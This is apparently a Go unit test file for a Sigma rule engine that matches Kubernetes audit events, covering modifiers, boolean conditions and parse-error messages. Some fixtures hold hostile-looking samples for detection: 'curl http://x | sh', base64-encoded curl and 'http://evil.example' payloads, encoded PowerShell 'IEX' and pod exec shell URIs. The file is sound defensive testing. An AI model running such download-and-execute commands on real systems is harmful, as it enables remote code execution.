package sigma

import (
	"strings"
	"testing"

	"github.com/cdewatch/cdewatch/internal/event"
)

// kubeRule is a Kubernetes audit rule with the given detection section
// (its lines indented by four spaces).
func kubeRule(detection string) string {
	return "title: test\nid: 00000000-0000-4000-8000-000000000001\nlogsource:\n    product: kubernetes\n    service: audit\ndetection:\n" + detection + "\nlevel: high\n"
}

// matchCase is a detection with audit events (JSON documents) it must
// match and events it must not.
type matchCase struct {
	name      string
	detection string
	match     []string
	miss      []string
}

func runMatchCases(t *testing.T, cases []matchCase, opts Options) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s, errs := Parse("test.yml", []byte(kubeRule(tc.detection)), opts)
			if len(errs) > 0 {
				t.Fatalf("load: %v", errs[0])
			}
			r := s.Rules()[0]
			for _, doc := range tc.match {
				if !r.Match(rawEvent(event.TableKubeAudit, doc)) {
					t.Errorf("does not match %s", doc)
				}
				if a := collect(s, rawEvent(event.TableKubeAudit, doc)); len(a) != 1 {
					t.Errorf("Eval: %d alerts on %s, want 1", len(a), doc)
				}
			}
			for _, doc := range tc.miss {
				if r.Match(rawEvent(event.TableKubeAudit, doc)) {
					t.Errorf("matches %s", doc)
				}
				if a := collect(s, rawEvent(event.TableKubeAudit, doc)); len(a) != 0 {
					t.Errorf("Eval: %d alerts on %s, want 0", len(a), doc)
				}
			}
		})
	}
}

// TestModifiers covers each value form and modifier.
func TestModifiers(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"plain value, case-insensitive",
			"    sel:\n        verb: GET\n    condition: sel",
			[]string{`{"verb":"get"}`, `{"verb":"Get"}`},
			[]string{`{"verb":"list"}`, `{}`, `{"verb":null}`, `{"verb":"get "}`}},
		{"list of values is OR",
			"    sel:\n        verb: [create, delete]\n    condition: sel",
			[]string{`{"verb":"create"}`, `{"verb":"DELETE"}`},
			[]string{`{"verb":"update"}`}},
		{"map is AND",
			"    sel:\n        verb: delete\n        objectRef.resource: events\n    condition: sel",
			[]string{`{"verb":"delete","objectRef":{"resource":"events"}}`},
			[]string{`{"verb":"delete","objectRef":{"resource":"pods"}}`, `{"verb":"get","objectRef":{"resource":"events"}}`}},
		{"list of maps is OR",
			"    sel:\n        - verb: delete\n        - objectRef.resource: secrets\n    condition: sel",
			[]string{`{"verb":"delete"}`, `{"objectRef":{"resource":"secrets"}}`},
			[]string{`{"verb":"get","objectRef":{"resource":"pods"}}`}},
		{"wildcard star",
			"    sel:\n        requestURI: '/api/v1/*/secrets*'\n    condition: sel",
			[]string{`{"requestURI":"/api/v1/namespaces/payments/secrets"}`, `{"requestURI":"/API/V1//SECRETS/x"}`},
			[]string{`{"requestURI":"/apis/v1/namespaces/payments/secrets"}`, `{"requestURI":"/api/v1/namespaces/payments/configmaps"}`}},
		{"wildcard question mark is one character",
			"    sel:\n        objectRef.name: 'web-?'\n    condition: sel",
			[]string{`{"objectRef":{"name":"web-0"}}`, `{"objectRef":{"name":"web-é"}}`},
			[]string{`{"objectRef":{"name":"web-10"}}`, `{"objectRef":{"name":"web-"}}`}},
		{"escaped wildcards are literal",
			"    sel:\n        requestObject.a: 'x\\*y\\?'\n    condition: sel",
			[]string{`{"requestObject":{"a":"x*y?"}}`},
			[]string{`{"requestObject":{"a":"xzyz"}}`, `{"requestObject":{"a":"x*yz"}}`}},
		{"escaped backslash before a wildcard",
			"    sel:\n        requestObject.a: 'C:\\\\*'\n    condition: sel",
			[]string{`{"requestObject":{"a":"C:\\Windows"}}`, `{"requestObject":{"a":"C:\\"}}`},
			[]string{`{"requestObject":{"a":"C:Windows"}}`}},
		{"plain backslash",
			"    sel:\n        requestObject.a: 'C:\\Windows\\System32'\n    condition: sel",
			[]string{`{"requestObject":{"a":"c:\\windows\\system32"}}`},
			[]string{`{"requestObject":{"a":"C:/Windows/System32"}}`}},
		{"contains",
			"    sel:\n        userAgent|contains: TruffleHog\n    condition: sel",
			[]string{`{"userAgent":"trufflehog/3.63"}`, `{"userAgent":"x TRUFFLEHOG"}`},
			[]string{`{"userAgent":"kubectl/v1.31"}`}},
		{"contains keeps wildcards inside",
			"    sel:\n        requestURI|contains: 'exec?command=*sh'\n    condition: sel",
			[]string{`{"requestURI":"/pods/web/exec?command=%2Fbin%2Fsh&tty=1"}`},
			[]string{`{"requestURI":"/pods/web/exec?command=ls"}`}},
		{"startswith",
			"    sel:\n        userAgent|startswith: kubectl/\n    condition: sel",
			[]string{`{"userAgent":"kubectl/v1.31.3 (linux/amd64)"}`},
			[]string{`{"userAgent":"kubelet/v1.31"}`, `{"userAgent":"xkubectl/"}`}},
		{"endswith",
			"    sel:\n        objectRef.name|endswith: '-key'\n    condition: sel",
			[]string{`{"objectRef":{"name":"card-encryption-KEY"}}`},
			[]string{`{"objectRef":{"name":"card-key-2"}}`}},
		{"contains all",
			"    sel:\n        requestURI|contains|all: [exec, 'command=', tty=true]\n    condition: sel",
			[]string{`{"requestURI":"/exec?command=sh&tty=true"}`},
			[]string{`{"requestURI":"/exec?command=sh"}`}},
		{"cased",
			"    sel:\n        objectRef.name|cased: Web\n    condition: sel",
			[]string{`{"objectRef":{"name":"Web"}}`},
			[]string{`{"objectRef":{"name":"web"}}`}},
		{"cased contains",
			"    sel:\n        userAgent|contains|cased: Go-http\n    condition: sel",
			[]string{`{"userAgent":"Go-http-client/2.0"}`},
			[]string{`{"userAgent":"go-http-client/2.0"}`}},
		{"re is case-sensitive",
			"    sel:\n        requestURI|re: '^/api/v1/namespaces/[a-z]+/secrets$'\n    condition: sel",
			[]string{`{"requestURI":"/api/v1/namespaces/payments/secrets"}`},
			[]string{`{"requestURI":"/api/v1/namespaces/Payments/secrets"}`, `{"requestURI":"/api/v1/namespaces/payments/secrets/x"}`}},
		{"re i",
			"    sel:\n        requestURI|re|i: '^/API/V1/namespaces/[a-z]+/secrets$'\n    condition: sel",
			[]string{`{"requestURI":"/api/v1/namespaces/Payments/secrets"}`},
			[]string{`{"requestURI":"/api/v1/namespaces/p1/secrets"}`}},
		{"re m",
			"    sel:\n        requestObject.script|re|m: '^curl '\n    condition: sel",
			[]string{`{"requestObject":{"script":"set -e\ncurl http://x | sh"}}`},
			[]string{`{"requestObject":{"script":"set -e; curl http://x"}}`}},
		{"re s",
			"    sel:\n        requestObject.script|re|s: 'begin.*end'\n    condition: sel",
			[]string{`{"requestObject":{"script":"begin\nend"}}`},
			[]string{`{"requestObject":{"script":"end\nbegin"}}`}},
		{"re without s does not cross lines",
			"    sel:\n        requestObject.script|re: 'begin.*end'\n    condition: sel",
			[]string{`{"requestObject":{"script":"begin end"}}`},
			[]string{`{"requestObject":{"script":"begin\nend"}}`}},
		{"cidr on an array of addresses",
			"    sel:\n        sourceIPs|cidr: [10.0.0.0/8, '2001:db8::/32']\n    condition: sel",
			[]string{`{"sourceIPs":["203.0.113.4","10.224.0.4"]}`, `{"sourceIPs":["2001:db8::1"]}`, `{"sourceIPs":["10.1.2.3:443"]}`},
			[]string{`{"sourceIPs":["203.0.113.4"]}`, `{"sourceIPs":["not an ip"]}`, `{"sourceIPs":[]}`}},
		{"base64",
			"    sel:\n        requestObject.data.token|base64: secret\n    condition: sel",
			[]string{`{"requestObject":{"data":{"token":"c2VjcmV0"}}}`},
			[]string{`{"requestObject":{"data":{"token":"secret"}}}`}},
		{"base64 contains",
			"    sel:\n        requestObject.cmd|base64|contains: 'curl h'\n    condition: sel",
			[]string{`{"requestObject":{"cmd":"echo Y3VybCBodHRwOi8v | base64 -d | sh"}}`},
			[]string{`{"requestObject":{"cmd":"echo d2dldCBodHRwOi8v | base64 -d"}}`}},
		{"base64offset contains at each offset",
			"    sel:\n        requestObject.cmd|base64offset|contains: 'http://'\n    condition: sel",
			[]string{
				`{"requestObject":{"cmd":"aHR0cDovL2V2aWwuZXhhbXBsZQ=="}}`, // "http://evil.example"
				`{"requestObject":{"cmd":"eGh0dHA6Ly9ldmlsLmV4YW1wbGU="}}`, // "xhttp://evil.example"
				`{"requestObject":{"cmd":"eHhodHRwOi8vZXZpbC5leGFtcGxl"}}`, // "xxhttp://evil.example"
			},
			[]string{`{"requestObject":{"cmd":"ZnRwOi8vZXZpbC5leGFtcGxl"}}`}}, // "ftp://evil.example"
		{"wide base64",
			"    sel:\n        requestObject.cmd|wide|base64: cmd\n    condition: sel",
			[]string{`{"requestObject":{"cmd":"YwBtAGQA"}}`},
			[]string{`{"requestObject":{"cmd":"Y21k"}}`}},
		{"utf16le base64offset contains",
			"    sel:\n        requestObject.cmd|utf16le|base64offset|contains: 'IEX'\n    condition: sel",
			[]string{`{"requestObject":{"cmd":"powershell -enc SQBFAFgAIAAoAE4AZQB3AA=="}}`},  // UTF-16LE "IEX (New"
			[]string{`{"requestObject":{"cmd":"powershell -enc SQBFAFkAIAAoAE4AZQB3AA=="}}`}}, // "IEY (New"
		{"windash",
			"    sel:\n        requestObject.args|windash|contains: ' -enc '\n    condition: sel",
			[]string{`{"requestObject":{"args":"powershell -enc abc"}}`, `{"requestObject":{"args":"powershell /enc abc"}}`,
				`{"requestObject":{"args":"powershell \u2013enc abc"}}`, `{"requestObject":{"args":"powershell \u2015enc abc"}}`},
			[]string{`{"requestObject":{"args":"powershell enc abc"}}`, `{"requestObject":{"args":"powershell +enc abc"}}`}},
		{"exists true",
			"    sel:\n        objectRef.subresource|exists: true\n    condition: sel",
			[]string{`{"objectRef":{"subresource":"exec"}}`, `{"objectRef":{"subresource":null}}`, `{"objectRef":{"subresource":""}}`},
			[]string{`{"objectRef":{"resource":"pods"}}`, `{}`}},
		{"exists false",
			"    sel:\n        impersonatedUser|exists: false\n    condition: sel",
			[]string{`{"user":{"username":"a"}}`},
			[]string{`{"impersonatedUser":{"username":"b"}}`}},
		{"null is absent or null",
			"    sel:\n        objectRef.subresource: null\n    condition: sel",
			[]string{`{"objectRef":{"resource":"pods"}}`, `{"objectRef":{"subresource":null}}`},
			[]string{`{"objectRef":{"subresource":"exec"}}`, `{"objectRef":{"subresource":""}}`}},
		{"null or a value",
			"    sel:\n        objectRef.subresource: [null, status]\n    condition: sel",
			[]string{`{}`, `{"objectRef":{"subresource":"status"}}`},
			[]string{`{"objectRef":{"subresource":"exec"}}`}},
		{"empty string",
			"    sel:\n        objectRef.namespace: ''\n    condition: sel",
			[]string{`{"objectRef":{"namespace":""}}`},
			[]string{`{"objectRef":{}}`, `{"objectRef":{"namespace":"default"}}`}},
		{"lt lte gt gte",
			"    lt:\n        responseStatus.code|lt: 300\n    gte:\n        responseStatus.code|gte: 200\n    condition: lt and gte",
			[]string{`{"responseStatus":{"code":200}}`, `{"responseStatus":{"code":299}}`, `{"responseStatus":{"code":"204"}}`},
			[]string{`{"responseStatus":{"code":300}}`, `{"responseStatus":{"code":199}}`, `{"responseStatus":{"code":"OK"}}`, `{}`}},
		{"lte and gt",
			"    sel:\n        responseStatus.code|gt: 399\n    sel2:\n        responseStatus.code|lte: 403\n    condition: sel and sel2",
			[]string{`{"responseStatus":{"code":400}}`, `{"responseStatus":{"code":403}}`},
			[]string{`{"responseStatus":{"code":399}}`, `{"responseStatus":{"code":404}}`}},
		{"number compared with a number or a numeric string",
			"    sel:\n        responseStatus.code: 403\n    condition: sel",
			[]string{`{"responseStatus":{"code":403}}`, `{"responseStatus":{"code":"403"}}`, `{"responseStatus":{"code":403.0}}`},
			[]string{`{"responseStatus":{"code":4030}}`, `{"responseStatus":{"code":"403.0"}}`}},
		{"boolean",
			"    sel:\n        requestObject.spec.hostNetwork: true\n    condition: sel",
			[]string{`{"requestObject":{"spec":{"hostNetwork":true}}}`, `{"requestObject":{"spec":{"hostNetwork":"True"}}}`},
			[]string{`{"requestObject":{"spec":{"hostNetwork":false}}}`, `{"requestObject":{"spec":{}}}`}},
		{"neq",
			"    sel:\n        verb|neq: [get, list]\n    condition: sel",
			[]string{`{"verb":"delete"}`},
			[]string{`{"verb":"get"}`, `{"verb":"LIST"}`, `{}`}},
		{"array elements and nested arrays",
			"    sel:\n        user.groups: system:masters\n        requestObject.spec.containers.securityContext.privileged: true\n    condition: sel",
			[]string{`{"user":{"groups":["system:authenticated","system:masters"]},"requestObject":{"spec":{"containers":[{"name":"a"},{"name":"b","securityContext":{"privileged":true}}]}}}`},
			[]string{`{"user":{"groups":["system:authenticated"]},"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":true}}]}}}`,
				`{"user":{"groups":["system:masters"]},"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":false}}]}}}`}},
		{"array index",
			"    sel:\n        sourceIPs.0: 10.224.0.4\n    condition: sel",
			[]string{`{"sourceIPs":["10.224.0.4","203.0.113.4"]}`},
			[]string{`{"sourceIPs":["203.0.113.4","10.224.0.4"]}`}},
		{"member name with dots",
			"    sel:\n        annotations.authorization.k8s.io/decision: forbid\n    condition: sel",
			[]string{`{"annotations":{"authorization.k8s.io/decision":"forbid"}}`},
			[]string{`{"annotations":{"authorization.k8s.io/decision":"allow"}}`}},
		{"empty array as JSON text",
			"    sel:\n        requestObject.items: '[]'\n    condition: sel",
			[]string{`{"requestObject":{"items":[]}}`},
			[]string{`{"requestObject":{"items":["a"]}}`, `{"requestObject":{}}`}},
		{"object as JSON text",
			"    sel:\n        requestObject.spec|contains: '\"privileged\":true'\n    condition: sel",
			[]string{`{"requestObject":{"spec":{"x":1,"privileged":true}}}`},
			[]string{`{"requestObject":{"spec":{"privileged":false}}}`}},
		{"fieldref",
			"    sel:\n        objectRef.name|fieldref: requestObject.metadata.name\n    condition: sel",
			[]string{`{"objectRef":{"name":"Web"},"requestObject":{"metadata":{"name":"web"}}}`},
			[]string{`{"objectRef":{"name":"web"},"requestObject":{"metadata":{"name":"db"}}}`, `{"objectRef":{"name":"web"}}`}},
		{"fieldref neq",
			"    sel:\n        objectRef.namespace|fieldref|neq: requestObject.metadata.namespace\n    condition: sel",
			[]string{`{"objectRef":{"namespace":"a"},"requestObject":{"metadata":{"namespace":"b"}}}`},
			[]string{`{"objectRef":{"namespace":"a"},"requestObject":{"metadata":{"namespace":"a"}}}`}},
		{"time part",
			"    sel:\n        stageTimestamp|hour|gte: 22\n    condition: sel",
			[]string{`{"stageTimestamp":"2025-04-20T23:05:00.123456Z"}`, `{"stageTimestamp":"2025-04-20T22:00:00Z"}`},
			[]string{`{"stageTimestamp":"2025-04-20T16:29:11Z"}`, `{"stageTimestamp":"yesterday"}`}},
		{"time part equality",
			"    sel:\n        stageTimestamp|month: 4\n    condition: sel",
			[]string{`{"stageTimestamp":"2025-04-20T23:05:00Z"}`},
			[]string{`{"stageTimestamp":"2025-05-20T23:05:00Z"}`}},
		{"keywords search every text of the event",
			"    keywords:\n        - trufflehog\n        - access_matrix\n    condition: keywords",
			[]string{`{"userAgent":"TruffleHog/3"}`, `{"requestObject":{"a":[{"b":"run access_matrix now"}]}}`},
			[]string{`{"userAgent":"kubectl"}`}},
		{"keyword all",
			"    keywords:\n        '|all':\n            - secrets\n            - payments\n    condition: keywords",
			[]string{`{"objectRef":{"resource":"secrets","namespace":"payments"}}`},
			[]string{`{"objectRef":{"resource":"secrets","namespace":"default"}}`}},
		{"keyword with a number",
			"    keywords: 403\n    condition: keywords",
			[]string{`{"responseStatus":{"code":403}}`},
			[]string{`{"responseStatus":{"code":200}}`}},
		{"irregular top-level apiGroup is objectRef.apiGroup",
			"    sel:\n        apiGroup: apps\n    condition: sel",
			[]string{`{"objectRef":{"apiGroup":"apps"}}`},
			[]string{`{"apiGroup":"apps","objectRef":{"apiGroup":"batch"}}`}},
		{"irregular hostPath: '*' is a hostPath volume",
			"    sel:\n        hostPath: '*'\n    condition: sel",
			[]string{`{"requestObject":{"spec":{"volumes":[{"name":"a","emptyDir":{}},{"name":"h","hostPath":{"path":"/"}}]}}}`,
				`{"requestObject":{"spec":{"template":{"spec":{"volumes":[{"hostPath":{"path":"/var/run"}}]}}}}}`},
			[]string{`{"requestObject":{"spec":{"volumes":[{"name":"a","emptyDir":{}}]}}}`, `{}`}},
		{"irregular capabilities: '*' is a container's capabilities",
			"    sel:\n        capabilities: '*'\n    condition: sel",
			[]string{`{"requestObject":{"spec":{"initContainers":[{"securityContext":{"capabilities":{"add":["NET_ADMIN"]}}}]}}}`},
			[]string{`{"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":true}}]}}}`}},
		{"irregular responseStatus.code: ALLOW is the authorizer's decision",
			"    sel:\n        responseStatus.code: 'ALLOW'\n    condition: sel",
			[]string{`{"responseStatus":{"code":101},"annotations":{"authorization.k8s.io/decision":"allow"}}`},
			[]string{`{"responseStatus":{"code":403},"annotations":{"authorization.k8s.io/decision":"forbid"}}`, `{"responseStatus":{"code":200}}`}},
		{"cdewatch record fields",
			"    sel:\n        cdewatch.table: KubeAuditLogs\n    condition: sel",
			[]string{`{}`},
			nil},
	}, Options{})
}

func TestExpandPlaceholders(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"placeholder values",
			"    sel:\n        user.username|expand: '%Administrators%'\n    condition: sel",
			[]string{`{"user":{"username":"alice@contoso.com"}}`, `{"user":{"username":"system:serviceaccount:flux-system:kustomize"}}`},
			[]string{`{"user":{"username":"bob@contoso.com"}}`}},
		{"escaped percent",
			"    sel:\n        requestObject.a|expand: '\\%x%Administrators%'\n    condition: sel",
			[]string{`{"requestObject":{"a":"%xalice@contoso.com"}}`},
			[]string{`{"requestObject":{"a":"alice@contoso.com"}}`}},
	}, Options{Placeholders: map[string][]string{"Administrators": {"alice@contoso.com", "system:serviceaccount:flux-system:*"}}})
}

// TestConditions covers each condition form.
func TestConditions(t *testing.T) {
	const sels = "    sel_a:\n        verb: get\n    sel_b:\n        objectRef.resource: secrets\n    filter:\n        objectRef.namespace: kube-system\n    _aux:\n        user.username: admin\n"
	ev := func(verb, res, ns, user string) string {
		return `{"verb":"` + verb + `","objectRef":{"resource":"` + res + `","namespace":"` + ns + `"},"user":{"username":"` + user + `"}}`
	}
	runMatchCases(t, []matchCase{
		{"and", sels + "    condition: sel_a and sel_b",
			[]string{ev("get", "secrets", "x", "")}, []string{ev("get", "pods", "x", ""), ev("list", "secrets", "x", "")}},
		{"or", sels + "    condition: sel_a or sel_b",
			[]string{ev("get", "pods", "x", ""), ev("list", "secrets", "x", "")}, []string{ev("list", "pods", "x", "")}},
		{"not", sels + "    condition: sel_b and not filter",
			[]string{ev("get", "secrets", "x", "")}, []string{ev("get", "secrets", "kube-system", "")}},
		{"precedence: and binds tighter than or", sels + "    condition: sel_a or sel_b and filter",
			[]string{ev("get", "pods", "x", ""), ev("list", "secrets", "kube-system", "")}, []string{ev("list", "secrets", "x", "")}},
		{"parentheses", sels + "    condition: (sel_a or sel_b) and filter",
			[]string{ev("list", "secrets", "kube-system", "")}, []string{ev("get", "pods", "x", "")}},
		{"not binds tighter than and", sels + "    condition: not sel_a and sel_b",
			[]string{ev("list", "secrets", "x", "")}, []string{ev("get", "secrets", "x", ""), ev("list", "pods", "x", "")}},
		{"not of a parenthesis", sels + "    condition: not (sel_a or sel_b)",
			[]string{ev("list", "pods", "x", "")}, []string{ev("get", "pods", "x", "")}},
		{"double not", sels + "    condition: not not sel_a",
			[]string{ev("get", "pods", "x", "")}, []string{ev("list", "pods", "x", "")}},
		{"1 of pattern", sels + "    condition: 1 of sel_*",
			[]string{ev("get", "pods", "x", ""), ev("list", "secrets", "x", "")}, []string{ev("list", "pods", "x", "")}},
		{"all of pattern", sels + "    condition: all of sel_*",
			[]string{ev("get", "secrets", "x", "")}, []string{ev("get", "pods", "x", "")}},
		{"1 of pattern and not 1 of pattern", sels + "    condition: 1 of sel_* and not 1 of filt*",
			[]string{ev("get", "pods", "x", "")}, []string{ev("get", "pods", "kube-system", "")}},
		{"1 of them ignores _identifiers", sels + "    condition: 1 of them",
			[]string{ev("get", "pods", "x", ""), ev("list", "pods", "kube-system", "")}, []string{ev("list", "pods", "x", "admin")}},
		{"all of them ignores _identifiers", sels + "    condition: all of them",
			[]string{ev("get", "secrets", "kube-system", "")}, []string{ev("get", "secrets", "x", "admin")}},
		{"_identifier by name", sels + "    condition: _aux",
			[]string{ev("list", "pods", "x", "admin")}, []string{ev("list", "pods", "x", "bob")}},
		{"operators in any case", sels + "    condition: sel_a AND NOT filter Or 1 OF sel_b",
			[]string{ev("get", "pods", "x", ""), ev("list", "secrets", "kube-system", "")}, []string{ev("get", "pods", "kube-system", "")}},
		{"list of conditions is OR", sels + "    condition:\n        - sel_a and filter\n        - sel_b and not filter",
			[]string{ev("get", "pods", "kube-system", ""), ev("list", "secrets", "x", "")}, []string{ev("get", "pods", "x", "")}},
	}, Options{})
}

// TestLoadErrors checks that invalid and unsupported rules are rejected
// with the file, line and attribute of the problem.
func TestLoadErrors(t *testing.T) {
	head := "title: t\nid: 00000000-0000-4000-8000-000000000009\nlogsource:\n    product: kubernetes\n    service: audit\n"
	cases := []struct {
		name, yml, want string
		unsupported     bool
	}{
		{"aggregation", head + "detection:\n    selection:\n        verb: get\n    condition: selection | count() > 5\n",
			`test.yml:9: detection.condition: aggregation "| count() > 5" is Sigma v1 syntax: use a correlation rule`, true},
		{"aggregation by", head + "detection:\n    sel:\n        verb: get\n    condition: sel | count(objectRef.name) by user.username > 10\n",
			`test.yml:9: detection.condition: aggregation "| count(objectRef.name) by user.username > 10" is Sigma v1 syntax: use a correlation rule`, true},
		{"near", head + "detection:\n    a:\n        verb: get\n    b:\n        verb: list\n    condition: a and near b\n",
			`test.yml:11: detection.condition: near is Sigma v1 syntax: use a temporal correlation rule`, true},
		{"timeframe", head + "detection:\n    sel:\n        verb: get\n    timeframe: 5m\n    condition: sel\n",
			`test.yml:9: detection.timeframe: timeframe is Sigma v1 aggregation syntax: use a correlation rule`, true},
		{"unknown modifier", head + "detection:\n    sel:\n        verb|containz: get\n    condition: sel\n",
			`test.yml:8: detection.sel.verb|containz: modifier "containz" is not a Sigma modifier cdewatch knows`, true},
		{"re with contains", head + "detection:\n    sel:\n        verb|contains|re: 'g.t'\n    condition: sel\n",
			`test.yml:8: detection.sel.verb|contains|re: modifier re with contains: a regular expression takes no other modifier`, false},
		{"re flag without re", head + "detection:\n    sel:\n        verb|i: get\n    condition: sel\n",
			`test.yml:8: detection.sel.verb|i: modifier "i" without re before it`, false},
		{"bad regexp", head + "detection:\n    sel:\n        verb|re: '(?<=a)b'\n    condition: sel\n",
			"test.yml:8: detection.sel.verb|re: re: \"(?<=a)b\": error parsing regexp: invalid named capture: `(?<=a)b`", false},
		{"bad cidr", head + "detection:\n    sel:\n        sourceIPs|cidr: 10.0.0.0/33\n    condition: sel\n",
			`test.yml:8: detection.sel.sourceIPs|cidr: cidr: "10.0.0.0/33" is not a network: netip.ParsePrefix("10.0.0.0/33"): prefix length out of range`, false},
		{"base64 of a wildcard", head + "detection:\n    sel:\n        requestURI|base64: 'a*'\n    condition: sel\n",
			`test.yml:8: detection.sel.requestURI|base64: base64: value "a*" has wildcards: an encoded value must be literal`, false},
		{"gt of a string", head + "detection:\n    sel:\n        responseStatus.code|gt: high\n    condition: sel\n",
			`test.yml:8: detection.sel.responseStatus.code|gt: gt: "high" is not a number`, false},
		{"exists of a string", head + "detection:\n    sel:\n        verb|exists: yes\n    condition: sel\n",
			`test.yml:8: detection.sel.verb|exists: exists takes true or false, got "yes"`, false},
		{"undefined placeholder", head + "detection:\n    sel:\n        user.username|expand: '%Admins%'\n    condition: sel\n",
			`test.yml:8: detection.sel.user.username|expand: expand: placeholder %Admins% has no values (define it in the loader's Placeholders)`, true},
		{"unknown identifier", head + "detection:\n    sel:\n        verb: get\n    condition: sel and filter\n",
			`test.yml:9: detection.condition: unknown search identifier "filter" (the detection defines sel)`, false},
		{"pattern matching nothing", head + "detection:\n    sel:\n        verb: get\n    condition: 1 of filter_*\n",
			`test.yml:9: detection.condition: "1 of filter_*" matches no search identifier (the detection defines sel)`, false},
		{"2 of", head + "detection:\n    sel:\n        verb: get\n    condition: 2 of sel*\n",
			`test.yml:9: detection.condition: "2 of": only "1 of" and "all of" are Sigma`, true},
		{"unbalanced", head + "detection:\n    sel:\n        verb: get\n    condition: (sel\n",
			`test.yml:9: detection.condition: missing ) for the ( at offset 0`, false},
		{"missing condition", head + "detection:\n    sel:\n        verb: get\n",
			`test.yml:6: detection.condition: missing: a detection needs a condition`, false},
		{"duplicate key", head + "detection:\n    sel:\n        verb: get\n        verb: list\n    condition: sel\n",
			`test.yml:9: detection.sel.verb: duplicate key "verb" (first at line 8)`, false},
		{"nested map value", head + "detection:\n    sel:\n        objectRef:\n            resource: pods\n    condition: sel\n",
			`test.yml:9: detection.sel.objectRef: a field's value must be a value or a list of values, got a mapping`, false},
		{"unmapped kubernetes field", head + "detection:\n    sel:\n        namespace: payments\n    condition: sel\n",
			`test.yml:8: detection.sel.namespace: field "namespace" is not a member of a Kubernetes audit event`, true},
		{"unknown log source", "title: t\nid: x\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n",
			`test.yml:4: logsource: log source windows/ (category process_creation) is not one cdewatch receives`, true},
		{"bad level", head + "detection:\n    sel:\n        verb: get\n    condition: sel\nlevel: severe\n",
			`test.yml:10: level: unknown level "severe": want informational, low, medium, high or critical`, false},
		{"missing id", "title: t\nlogsource:\n    product: kubernetes\n    service: audit\ndetection:\n    sel:\n        verb: get\n    condition: sel\n",
			`test.yml:1: id: missing: cdewatch identifies alerts, deduplication keys and correlations by the rule's id`, false},
		{"v1 collection", "action: global\ntitle: t\nid: x\n",
			`test.yml:1: action: action is Sigma v1 rule-collection syntax (global, reset, repeat): write each rule as a document of its own`, true},
		{"yaml syntax", "title: [t\n",
			`test.yml:1: invalid YAML: yaml: line 1: did not find expected ',' or ']'`, false},
		{"azure unmapped column", "title: t\nid: x\nlogsource:\n    product: azure\n    service: activitylogs\ndetection:\n    sel:\n        HTTPRequest: x\n    condition: sel\n",
			`test.yml:8: detection.sel.HTTPRequest: field "HTTPRequest": the Storage/Event Hubs export has no httpRequest (the client address is CallerIpAddress)`, true},
		{"correlation type", "title: c\nid: c1\ncorrelation:\n    type: value_sum\n    rules: [a]\n    timespan: 5m\n    condition:\n        gte: 5\n",
			`test.yml:4: correlation.type: correlation type value_sum is not implemented: cdewatch evaluates event_count, value_count, temporal and temporal_ordered`, true},
		{"correlation timespan", "title: c\nid: c1\ncorrelation:\n    type: event_count\n    rules: [a]\n    timespan: 5 minutes\n    condition:\n        gte: 5\n",
			`test.yml:6: correlation.timespan: timespan "5 minutes": want a number and s, m, h or d, e.g. 10m`, false},
		{"correlation unknown rule", "title: c\nid: c1\ncorrelation:\n    type: event_count\n    rules: [nowhere]\n    group-by: [user.username]\n    timespan: 5m\n    condition:\n        gte: 5\n",
			`test.yml:4: correlation.rules: unknown rule "nowhere": no loaded rule has this id or name`, false},
		{"value_count without field", "title: c\nid: c1\ncorrelation:\n    type: value_count\n    rules: [a]\n    timespan: 5m\n    condition:\n        gte: 5\n",
			`test.yml:8: correlation.condition.field: missing: value_count counts the distinct values of a field`, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, errs := Parse("test.yml", []byte(tc.yml), Options{})
			if len(errs) != 1 {
				t.Fatalf("%d errors, want 1: %v", len(errs), errs)
			}
			if got := errs[0].Error(); !strings.HasPrefix(got, tc.want) {
				t.Errorf("error\n got %s\nwant %s", got, tc.want)
			}
			if errs[0].Unsupported() != tc.unsupported {
				t.Errorf("Unsupported() = %v, want %v", errs[0].Unsupported(), tc.unsupported)
			}
		})
	}
}
